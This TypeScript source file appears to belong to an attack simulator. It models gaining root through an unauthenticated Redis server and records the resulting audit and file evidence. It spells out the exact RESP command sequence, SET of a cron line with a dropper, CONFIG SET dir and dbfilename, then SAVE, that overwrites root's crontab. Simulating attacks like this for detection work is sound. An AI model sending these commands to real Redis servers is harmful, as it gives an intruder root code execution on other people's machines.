import type { Process } from '../evidence/audit-calls.ts'
import { runAsCron } from '../gangs/come-back.ts'
import { ScriptHands } from '../gangs/script-hands.ts'
import { cronJob, nextRunMs } from '../login/cron-job.ts'
import { ROOT } from '../machine.ts'
import { type Act, MINUTE_MS } from '../schedule.ts'
import type { Attempt } from './enter.ts'
import { ask, connectionTo, dropperLine } from './service.ts'

const PORT = 6379
const CRONTAB = '/var/spool/cron/crontabs/root'
const OK = '+OK\r\n'
const RUNS_EVERY_MS = 5 * MINUTE_MS

/** Redis without a password, run by root: its dump becomes root's crontab, and cron does the rest within five minutes. */
export function* throughRedis(attempt: Attempt): Act<boolean> {
  const { host, random, gang } = attempt
  const { machine } = host
  const { tcp, srcPort } = connectionTo(attempt, PORT)
  const line = dropperLine(attempt)
  const key = random.text(random.integer(2, 8), 'abcdefghijklmnopqrstuvwxyz')
  const info = '# Server\r\nredis_version:5.0.7\r\nos:Linux x86_64\r\n'
  yield tcp.open(machine.nowMs)
  yield* ask(machine, tcp, resp('INFO'), `$${info.length}\r\n${info}\r\n`, random)
  yield* ask(machine, tcp, resp('SET', key, `\n\n*/5 * * * * ${line}\n\n`), OK, random)
  yield* ask(machine, tcp, resp('CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'), OK, random)
  yield* ask(machine, tcp, resp('CONFIG', 'SET', 'dbfilename', 'root'), OK, random)
  yield* ask(machine, tcp, resp('SAVE'), OK, random)
  if (host.immutable.has(CRONTAB)) {
    machine.calls.failedToOpen(server(), CRONTAB, 'cron')
    yield tcp.close('remote', machine.nowMs)
    return false
  }
  machine.calls.opened(server(), CRONTAB, 'cron', { isNew: true, mode: '0100600' })
  host.files.set(CRONTAB, gang)
  host.ledger.touched(CRONTAB, 'cron', 'created', machine.nowMs)
  attempt.admitted({ kind: 'redis', srcIp: attempt.srcIp, srcPort, user: ROOT.name })
  yield tcp.close('remote', machine.nowMs)
  yield nextRunMs(machine.nowMs, RUNS_EVERY_MS, random)
  yield* cronJob(machine, line, random, {
    work: (shell) => attempt.inside(new ScriptHands(machine, ROOT, shell, random)),
  })
  runAsCron(
    host,
    { owner: gang, place: CRONTAB, line: `*/5 * * * * ${line}`, isGone: false },
    ROOT,
    random,
    RUNS_EVERY_MS,
  )
  return true
}

function server(): Process {
  return {
    pid: SERVER_PID,
    ppid: 1,
    comm: 'redis-server',
    exe: '/usr/bin/redis-server',
    args: ['/usr/bin/redis-server', '0.0.0.0:6379'],
    cwd: '/var/spool/cron/crontabs',
    uid: ROOT.uid,
    loginUid: null,
    session: null,
    tty: null,
    unit: 'redis-server.service',
  }
}

/** Started at boot. */
const SERVER_PID = 733

/** A command as RESP2 carries it. */
function resp(...words: readonly string[]): string {
  return `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`
}
